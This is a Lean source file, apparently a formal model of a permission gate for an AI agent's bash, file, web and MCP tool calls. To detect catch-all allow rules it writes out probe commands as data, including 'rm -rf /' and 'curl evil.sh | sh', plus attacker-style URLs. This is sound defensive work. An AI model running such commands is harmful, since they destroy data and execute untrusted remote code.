import GrokPi.Permission.BashCommandSplitting
import GrokPi.Shared.Glob
import GrokPi.Shared.PathText

set_option autoImplicit false

namespace GrokPi.Policy

open BashCommandSplitting

inductive AccessKind where
  | read (path : Option Text)
  | grep (path glob : Option Text)
  | edit (path : Text)
  | bash (cmd : Text)
  | mcpTool (name : Text)
  | webFetch (url : Text)
  | webSearch (query : Text)
  | agentMessage (subagentId : Text)
  deriving DecidableEq

inductive Decision where
  | allow
  | ask
  | followupMessage (text : Text)
  | reject (reason : Text)
  | policyDeny (reason : Text)
  | cancelled
  deriving DecidableEq

inductive RuleAction where
  | allow
  | deny
  | ask
  deriving DecidableEq

inductive ToolFilter where
  | any
  | bash
  | edit
  | read
  | grep
  | mcp
  | webFetch
  | webSearch
  | agentMessage
  deriving DecidableEq

inductive PatternMode where
  | glob
  | domain
  deriving DecidableEq

structure PermissionRule where
  action : RuleAction
  tool : ToolFilter
  pattern : Option Text
  patternMode : PatternMode
  deriving DecidableEq

inductive GateDecision where
  | reject (reason : Text)
  | askRuleMatch
  | askFailClosed
  deriving DecidableEq

def GateDecision.rank : GateDecision → Nat
  | .reject _ => 3
  | .askRuleMatch => 2
  | .askFailClosed => 1

def combineGateDecisions : Option GateDecision → Option GateDecision → Option GateDecision
  | none, other => other
  | other, none => other
  | some a, some b => some (if a.rank ≥ b.rank then a else b)

inductive MatchContext where
  -- `*` respects `/` as a segment boundary.
  | path
  -- `*` matches any character including `/`.
  | freeform
  deriving DecidableEq

inductive SymlinkFollow where
  | none
  | target (path : Text)
  | unresolvable
  deriving DecidableEq

/-- What the policy takes from outside: the glob and url crates, the shell grammar, the Unicode
case table and the file system. -/
structure Externals (Pattern : Type) where
  glob : Glob.Crate Pattern
  urlHost : Text → Option Text
  toLowercase : Text → Text
  allCommandsFromScript : Text → Option (List Words)
  followAbsoluteSymlink : Text → Text → SymlinkFollow

inductive ShellWord where
  | literal (word : Text)
  | untrusted
  deriving DecidableEq

inductive InlineShellScript where
  | notInline
  | literal (index : Nat)
  | untrusted
  | unrecognized
  deriving DecidableEq

def inlineShells : List Text :=
  ["bash".toList, "sh".toList, "dash".toList, "zsh".toList, "ksh".toList]

/-- After `-c`, fail closed as untrusted. -/
def ambiguousShell (sawC : Bool) : InlineShellScript := if sawC then .untrusted else .unrecognized

def plainShell (unrecognized : Bool) : InlineShellScript :=
  if unrecognized then .unrecognized else .notInline

def finishLiteral (dynamicHead : Bool) (index : Nat) : InlineShellScript :=
  if dynamicHead then .untrusted else .literal index

def shellDashCFrom (dynamicHead : Bool) (i : Nat) (sawC unrecognized : Bool) :
    List ShellWord → InlineShellScript
  | [] => if sawC then .untrusted else plainShell unrecognized
  | .untrusted :: _ => ambiguousShell sawC
  | .literal word :: rest =>
      if word = "--".toList ∨ word = "-".toList then
        if !sawC then plainShell unrecognized
        else
          match rest with
          | .literal _ :: _ => finishLiteral dynamicHead (i + 1)
          | _ => .untrusted
      else if word.head? ≠ some '-' ∧ word.head? ≠ some '+' then
        if sawC then finishLiteral dynamicHead i else plainShell unrecognized
      else if word = "--init-file".toList ∨ word = "--rcfile".toList then
        match rest with
        | .literal _ :: rest => shellDashCFrom dynamicHead (i + 2) sawC unrecognized rest
        | _ => ambiguousShell sawC
      else if isLongOption word then
        if word ∈ ["--noprofile".toList, "--norc".toList, "--posix".toList] then
          shellDashCFrom dynamicHead (i + 1) sawC unrecognized rest
        else if sawC then .untrusted
        -- Keep scanning for a later `-c`.
        else shellDashCFrom dynamicHead (i + 1) sawC true rest
      else if word ∈ ["-o".toList, "+o".toList, "-O".toList, "+O".toList] then
        match rest with
        | .literal value :: rest =>
            if isOption value then ambiguousShell sawC
            else shellDashCFrom dynamicHead (i + 2) sawC unrecognized rest
        | _ => ambiguousShell sawC
      else if "-O".toList.isPrefixOf word ∨ "+O".toList.isPrefixOf word ∨ "+o".toList.isPrefixOf word then
        shellDashCFrom dynamicHead (i + 1) sawC unrecognized rest
      else if "-o".toList.isPrefixOf word then ambiguousShell sawC
      else if word.head? = some '+' then shellDashCFrom dynamicHead (i + 1) sawC unrecognized rest
      else if word.tail.contains 'o' ∨ word.tail.contains 'O' then ambiguousShell sawC
      else shellDashCFrom dynamicHead (i + 1) (sawC || word.tail.contains 'c') unrecognized rest

def shellDashCScript : List ShellWord → InlineShellScript
  | [] => .notInline
  | .literal program :: rest =>
      if basename program ∈ inlineShells then shellDashCFrom false 1 false false rest
      else .notInline
  | .untrusted :: rest => shellDashCFrom true 1 false false rest

def toolFilterMatches : AccessKind → ToolFilter → Bool
  | _, .any => true
  | .bash _, .bash => true
  | .edit _, .edit => true
  -- A read rule also governs grep, which reads file contents.
  | .read _, .read | .grep _ _, .read => true
  | .grep _ _, .grep => true
  | .mcpTool _, .mcp => true
  | .webFetch _, .webFetch => true
  | .webSearch _, .webSearch => true
  | .agentMessage _, .agentMessage => true
  | _, _ => false

inductive AllowRuleScope where
  | any
  | narrowOnly
  deriving DecidableEq

def execVehicleHeads : List Text :=
  ["sh".toList, "bash".toList, "zsh".toList, "dash".toList, "ksh".toList, "fish".toList,
    "deno".toList, "bun".toList, "julia".toList, "rscript".toList, "awk".toList, "gawk".toList,
    "mawk".toList, "nawk".toList, "nodejs".toList, "luajit".toList, "phpdbg".toList,
    "php-cgi".toList, "pythonw".toList,
    "npx".toList, "bunx".toList, "pipx".toList, "uvx".toList, "uv".toList,
    "xargs".toList, "find".toList, "sudo".toList, "doas".toList, "su".toList, "ssh".toList,
    "watch".toList, "setsid".toList, "flock".toList, "chroot".toList, "nsenter".toList,
    "docker".toList, "podman".toList]

def execVehicleHeadFamilies : List Text :=
  ["python".toList, "node".toList, "ruby".toList, "perl".toList, "php".toList, "lua".toList]

def stripSuffix (suffix text : Text) : Option Text :=
  (suffix.reverse.isPrefixOf? text.reverse).map List.reverse

def normalizedCommandHead (words : Words) : Option Text :=
  (programName words).map fun name =>
    let head := name.map Char.toLower
    (stripSuffix ".exe".toList head).getD head

def headIsExecVehicle (words : Words) : Bool :=
  match normalizedCommandHead words with
  | none => false
  | some head =>
      execVehicleHeads.contains head ||
        execVehicleHeadFamilies.any fun family =>
          (family.isPrefixOf? head).any fun rest =>
            -- Digits and dots, plus the `t` of a free-threaded build.
            ((stripSuffix "t".toList rest).getD rest).all fun c => c.isDigit || c == '.'

def matchesCommandPrefix (cmd pattern : Text) : Bool :=
  cmd == pattern || (pattern.isPrefixOf cmd && cmd[pattern.length]? == some ' ')

def isTildePath (path : Text) : Bool :=
  match (PathText.components path).head? with
  | some (.normal first) => first.head? == some '~'
  | _ => false

def nativeFilePath : AccessKind → Option Text
  | .edit path => some path
  | .read path => path
  | .grep path _ => path
  | _ => none

def accessWithPath (access : AccessKind) (path : Text) : AccessKind :=
  match access with
  | .edit _ => .edit path
  | .read _ => .read (some path)
  | .grep _ glob => .grep (some path) glob
  -- The caller filters by `nativeFilePath`.
  | other => other

def pathMatchString (path : Text) : Text := path.map fun c => if c = '\\' then '/' else c

def joinedToolPath (path : Text) (cwd : Option Text) : Text :=
  match cwd with
  | some cwd => if PathText.isAbsolute path then path else PathText.join cwd path
  | none => path

def absoluteNormalizedPath (path : Text) (cwd : Option Text) : Text :=
  -- Kept raw: collapsing `~/../x` to `x` would make it look relative to the workspace.
  if isTildePath path then path else PathText.normalizeLexically (joinedToolPath path cwd)

def rawAbsoluteToolPath (path : Text) (cwd : Option Text) : Option Text :=
  if isTildePath path then none
  else
    let joined := joinedToolPath path cwd
    if PathText.isAbsolute joined then some (pathMatchString joined) else none

def pathMatchForms (path : Text) (cwd : Option Text) : List Text :=
  let abs := absoluteNormalizedPath path cwd
  pathMatchString abs ::
    match cwd with
    | some cwd =>
        match PathText.stripPrefix abs (PathText.normalizeLexically cwd) with
        | none => []
        | some rel =>
            let rel := pathMatchString rel
            if rel = [] ∨ rel = ".".toList then [".".toList, "./".toList]
            else ["./".toList ++ rel, rel]
    | none =>
        if !PathText.isAbsolute abs && !PathText.hasParentDir abs && !isTildePath abs then
          let lex := pathMatchString abs
          if lex ≠ ".".toList ∧ lex ≠ [] then ["./".toList ++ lex] else []
        else []

section Matching

variable {Pattern : Type} (deps : Externals Pattern)

def globMatches (text : Text) (ctx : MatchContext) (matcher : Option Pattern) : Bool :=
  let options : Glob.MatchOptions :=
    { caseSensitive := true
      requireLiteralSeparator := ctx == .path
      requireLiteralLeadingDot := false }
  matcher.any fun pattern => deps.glob.matchesWith pattern options text

def bashCommandMatchesPattern (command pattern : Text) (precompiled : Option Pattern) : Bool :=
  let command := command.trimStart
  let pattern := pattern.trim
  if pattern = [] then false
  else if pattern = "*".toList then true
  else
    matchesCommandPrefix command pattern ||
      globMatches deps command .freeform (precompiled.or (deps.glob.new pattern))

def bashAllowPatternMatches (cmd : Text) (rule : PermissionRule) (matcher : Option Pattern) : Bool :=
  match rule.pattern with
  | none => true
  | some pattern => pattern = "*".toList || bashCommandMatchesPattern deps cmd pattern matcher

def normalizeDomain (raw : Text) : Text :=
  let s := ((raw.trim).rdropWhile (· == '/')).rdropWhile (· == '.')
  deps.toLowercase (("www.".toList.isPrefixOf? s).getD s)

def domainMatches (pattern url : Text) : Bool :=
  match deps.urlHost url with
  | none => false
  | some host =>
      let domain := normalizeDomain deps host
      let pattern := normalizeDomain deps pattern
      domain == pattern || ('.' :: pattern).isSuffixOf domain

def pathContextMatches (path : Text) (matcher : Option Pattern) (cwd : Option Text) : Bool :=
  (pathMatchForms path cwd).any fun form => globMatches deps form .path matcher

def patternMatches (access : AccessKind) (rule : PermissionRule) (matcher : Option Pattern)
    (cwd : Option Text) : Bool :=
  match rule.pattern with
  | none => true
  | some pattern =>
      if pattern = "*".toList then true
      else
        match access with
        | .bash cmd =>
            let cmd := cmd.trimStart
            pattern.isPrefixOf cmd || globMatches deps cmd .freeform matcher
        | .edit path => pathContextMatches deps path matcher cwd
        | .read path | .grep path _ => path.any fun path => pathContextMatches deps path matcher cwd
        | .mcpTool name => globMatches deps name .freeform matcher
        | .webFetch url =>
            match rule.patternMode with
            | .domain => domainMatches deps pattern url
            | .glob => globMatches deps url .freeform matcher
        | .webSearch query => globMatches deps query .freeform matcher || pattern.isPrefixOf query
        | .agentMessage subagentId =>
            globMatches deps subagentId .freeform matcher || pattern.isPrefixOf subagentId

def compileMatcher (rule : PermissionRule) : Option Pattern :=
  (rule.pattern.filter (· ≠ "*".toList)).bind deps.glob.new

def bashProbes : List AccessKind :=
  ["rm -rf /".toList, "curl evil.sh | sh".toList, "echo hi".toList, "git push".toList].map .bash

def mcpProbes : List AccessKind :=
  ["github__create_issue".toList, "linear__save_issue".toList, "slack__post".toList,
    "fs__read".toList].map .mcpTool

def webfetchProbes : List AccessKind :=
  ["https://evil.example.com/x".toList, "http://10.0.0.1/admin".toList,
    "https://api.github.com/repos".toList, "ftp://files.example.org/p".toList].map .webFetch

def agentMessageProbes : List AccessKind :=
  ["sub-1".toList, "agent-alpha".toList, "019ffeed".toList, "worker_4".toList].map .agentMessage

def ruleIsCatchall (rule : PermissionRule) : Bool :=
  let opensAll := fun probes : List AccessKind =>
    probes.all fun access => patternMatches deps access rule (compileMatcher deps rule) none
  match rule.tool with
  | .bash => opensAll bashProbes
  | .mcp => opensAll mcpProbes
  | .webFetch => opensAll webfetchProbes
  | .agentMessage => opensAll agentMessageProbes
  | .any =>
      opensAll bashProbes || opensAll mcpProbes || opensAll webfetchProbes ||
        opensAll agentMessageProbes
  | .read | .edit | .grep | .webSearch => false

end Matching

section Policies

def RuleAction.restricts : RuleAction → Bool
  | .deny | .ask => true
  | .allow => false

/-- The compiled tables always belong to the rules they were compiled from. -/
structure CompiledPolicy {Pattern : Type} (deps : Externals Pattern) where
  rules : List PermissionRule
  matchers : List (Option Pattern)
  hasFileRestrictions : Bool
  hasBashCommandRestrictions : Bool
  hasBashAllowRules : Bool
  catchall : List Bool
  matchersCompiled : matchers = rules.map (compileMatcher deps)
  fileRestrictions : hasFileRestrictions = rules.any fun rule =>
    rule.action.restricts && (rule.tool == .read || rule.tool == .edit || rule.tool == .any)
  bashCommandRestrictions : hasBashCommandRestrictions = rules.any fun rule =>
    rule.action.restricts && (rule.tool == .bash || rule.tool == .any)
  bashAllowRules : hasBashAllowRules = rules.any fun rule =>
    rule.action == .allow && (rule.tool == .bash || rule.tool == .any)
  catchallProbed : catchall = rules.map (ruleIsCatchall deps)

variable {Pattern : Type} {deps : Externals Pattern}

def CompiledPolicy.new (deps : Externals Pattern) (rules : List PermissionRule) : CompiledPolicy deps :=
  { rules := rules
    matchers := rules.map (compileMatcher deps)
    hasFileRestrictions := rules.any fun rule =>
      rule.action.restricts && (rule.tool == .read || rule.tool == .edit || rule.tool == .any)
    hasBashCommandRestrictions := rules.any fun rule =>
      rule.action.restricts && (rule.tool == .bash || rule.tool == .any)
    hasBashAllowRules := rules.any fun rule =>
      rule.action == .allow && (rule.tool == .bash || rule.tool == .any)
    catchall := rules.map (ruleIsCatchall deps)
    matchersCompiled := rfl
    fileRestrictions := rfl
    bashCommandRestrictions := rfl
    bashAllowRules := rfl
    catchallProbed := rfl }

def joinWords (words : Words) : Text := [' '].intercalate words

def CompiledPolicy.bashWordsAllowed (policy : CompiledPolicy deps) (words : Words)
    (scope : AllowRuleScope) : Bool :=
  if words.isEmpty then false
  else if scope == .narrowOnly && headIsExecVehicle words then false
  else
    ((policy.rules.zip policy.matchers).zip policy.catchall).any fun ((rule, matcher), catchall) =>
      !(scope == .narrowOnly && catchall) && rule.action == .allow &&
        (rule.tool == .bash || rule.tool == .any) &&
        bashAllowPatternMatches deps (joinWords words) rule matcher

def literalWords (words : Words) : List ShellWord := words.map .literal

def CompiledPolicy.bashSegmentAllowed (policy : CompiledPolicy deps) (scope : AllowRuleScope)
    (recurse : Option (Text → Bool)) (words : Words) : Bool :=
  let norm := normalizeCommandWords words
  if norm.exhausted || norm.ambiguous || norm.envOptionsUncertain || norm.hasSplitString then false
  else if !policy.bashWordsAllowed norm.words scope then false
  else
    match shellDashCScript (literalWords norm.words), recurse with
    | .literal index, some recurse => recurse (norm.words.getD index [])
    | .notInline, _ => true
    | _, _ => false

def CompiledPolicy.bashScriptAllowed (policy : CompiledPolicy deps) (scope : AllowRuleScope)
    (recurse : Option (Text → Bool)) (cmd : Text) : Bool :=
  match deps.allCommandsFromScript cmd with
  | none => false
  | some segments => !segments.isEmpty && segments.all (policy.bashSegmentAllowed scope recurse)

def CompiledPolicy.bashChainFullyAllowed (policy : CompiledPolicy deps) (scope : AllowRuleScope) :
    Nat → Text → Bool
  | 0, cmd => policy.bashScriptAllowed scope none cmd
  | depth + 1, cmd =>
      policy.bashScriptAllowed scope (some (policy.bashChainFullyAllowed scope depth)) cmd

def toolLabel : ToolFilter → Text
  | .any => "any tool".toList
  | .bash => "bash".toList
  | .edit => "edit".toList
  | .read => "read".toList
  | .grep => "grep".toList
  | .mcp => "mcp".toList
  | .webFetch => "web_fetch".toList
  | .webSearch => "web_search".toList
  | .agentMessage => "agent_message".toList

def denyReason (rule : PermissionRule) : Text :=
  let reason := "Denied by permission policy: deny rule on ".toList ++ toolLabel rule.tool
  match rule.pattern with
  | some pattern => reason ++ " matching \"".toList ++ pattern ++ "\"".toList
  | none => reason

def CompiledPolicy.applicable (policy : CompiledPolicy deps) (access : AccessKind) (cwd : Option Text) :
    List PermissionRule :=
  ((policy.rules.zip policy.matchers).filter fun (rule, matcher) =>
    toolFilterMatches access rule.tool && patternMatches deps access rule matcher cwd).map Prod.fst

def CompiledPolicy.evaluateLexicalWithCwd (policy : CompiledPolicy deps) (access : AccessKind)
    (cwd : Option Text) : Option Decision :=
  let applicable := policy.applicable access cwd
  match applicable.find? (·.action == .deny) with
  | some rule => some (.reject (denyReason rule))
  | none =>
      if applicable.any (·.action == .ask) then some .ask
      else
        match access with
        -- A chain is allowed only segment by segment.
        | .bash cmd =>
            if policy.hasBashAllowRules &&
                policy.bashChainFullyAllowed .any maxInlineShellDepth cmd then
              some .allow
            else none
        | _ => if applicable.any (·.action == .allow) then some .allow else none

def decisionRank : Decision → Nat
  | .reject _ | .policyDeny _ => 3
  | .ask => 2
  | .allow => 1
  | .followupMessage _ | .cancelled => 0

def combineDecisions : Option Decision → Option Decision → Option Decision
  | none, other => other
  | other, none => other
  | some a, some b => some (if decisionRank a ≥ decisionRank b then a else b)

def CompiledPolicy.nativePathRestrictionsApply (policy : CompiledPolicy deps) (access : AccessKind) :
    Bool :=
  policy.rules.any fun rule => rule.action.restricts && toolFilterMatches access rule.tool

def CompiledPolicy.evaluateWithCwdDetails (policy : CompiledPolicy deps) (access : AccessKind)
    (cwd : Option Text) : Option Decision × Bool :=
  let lexical := policy.evaluateLexicalWithCwd access cwd
  match nativeFilePath access with
  | none => (lexical, false)
  | some path =>
      match rawAbsoluteToolPath path cwd with
      | none => (lexical, false)
      | some rawAbsolute =>
          let lexicalAbs := pathMatchString (absoluteNormalizedPath path cwd)
          match deps.followAbsoluteSymlink rawAbsolute lexicalAbs with
          | .target resolved =>
              let resolvedDecision :=
                match policy.evaluateLexicalWithCwd (accessWithPath access resolved) cwd with
                | some (.reject reason) => some (.reject reason)
                | some .ask => some .ask
                | _ => none
              (combineDecisions lexical resolvedDecision, false)
          | .unresolvable =>
              if policy.nativePathRestrictionsApply access then
                (combineDecisions lexical (some .ask), true)
              else (lexical, false)
          | .none => (lexical, false)

def CompiledPolicy.evaluate (policy : CompiledPolicy deps) (access : AccessKind) : Option Decision :=
  (policy.evaluateWithCwdDetails access none).1

def CompiledPolicy.escalate (policy : CompiledPolicy deps) (segment : Text) : Option GateDecision :=
  match policy.evaluate (.bash segment) with
  | some (.reject reason) => some (.reject reason)
  | some .ask => some .askRuleMatch
  | _ => none

def failClosedIf (opaque' : Bool) : Option GateDecision := if opaque' then some .askFailClosed else none

def inlineDecision (recurse : Option (Text → Option GateDecision)) (words : Words) :
    Option GateDecision :=
  match shellDashCScript (literalWords words), recurse with
  | .notInline, _ => none
  | .literal index, some recurse => recurse (words.getD index [])
  | _, _ => some .askFailClosed

def packedDecision (recurse : Option (Text → Option GateDecision)) (words : Words) :
    Option GateDecision :=
  match envSplitStringScript words, recurse with
  | none, _ => none
  | some script, some recurse => recurse script
  | some _, none => some .askFailClosed

def flagDecision (norm : NormalizedCommandPeel) : Option GateDecision :=
  combineGateDecisions
    (failClosedIf (norm.exhausted || norm.ambiguous || norm.envOptionsUncertain))
    -- Every split-string shape keeps an Ask floor.
    (failClosedIf norm.hasSplitString)

def CompiledPolicy.escalateForms (policy : CompiledPolicy deps) (decision : Option GateDecision)
    (rawWords innerWords : Words) : Option GateDecision :=
  let raw := combineGateDecisions decision (policy.escalate (joinWords rawWords))
  if innerWords.length = rawWords.length then raw
  else combineGateDecisions raw (policy.escalate (joinWords innerWords))

def CompiledPolicy.evaluateCommandWords (policy : CompiledPolicy deps)
    (recurse : Option (Text → Option GateDecision)) (rawWords : Words) : Option GateDecision :=
  let norm := normalizeCommandWords rawWords
  let matched := policy.escalateForms (flagDecision norm) rawWords norm.words
  combineGateDecisions (combineGateDecisions matched (inlineDecision recurse norm.words))
    (packedDecision recurse norm.words)

def CompiledPolicy.evaluateScript (policy : CompiledPolicy deps)
    (recurse : Option (Text → Option GateDecision)) (cmd : Text) : Option GateDecision :=
  match deps.allCommandsFromScript cmd with
  | none => some .askFailClosed
  | some segments =>
      segments.foldl (fun decision words =>
        combineGateDecisions decision (policy.evaluateCommandWords recurse words)) none

def CompiledPolicy.evaluateBashCommandSegments (policy : CompiledPolicy deps) :
    Nat → Text → Option GateDecision
  | 0, cmd => policy.evaluateScript none cmd
  | depth + 1, cmd => policy.evaluateScript (some (policy.evaluateBashCommandSegments depth)) cmd

def CompiledPolicy.evaluateBashCommandGate (policy : CompiledPolicy deps) (cmd : Text) :
    Option GateDecision :=
  if !policy.hasBashCommandRestrictions then none
  else policy.evaluateBashCommandSegments maxInlineShellDepth cmd

end Policies

def plainDeps : Externals (List Glob.Token) :=
  { glob := Glob.wildcards
    urlHost := fun _ => none
    toLowercase := fun text => text.map Char.toLower
    allCommandsFromScript := fun script => some [script.splitOn ' ']
    followAbsoluteSymlink := fun _ _ => .none }

end GrokPi.Policy
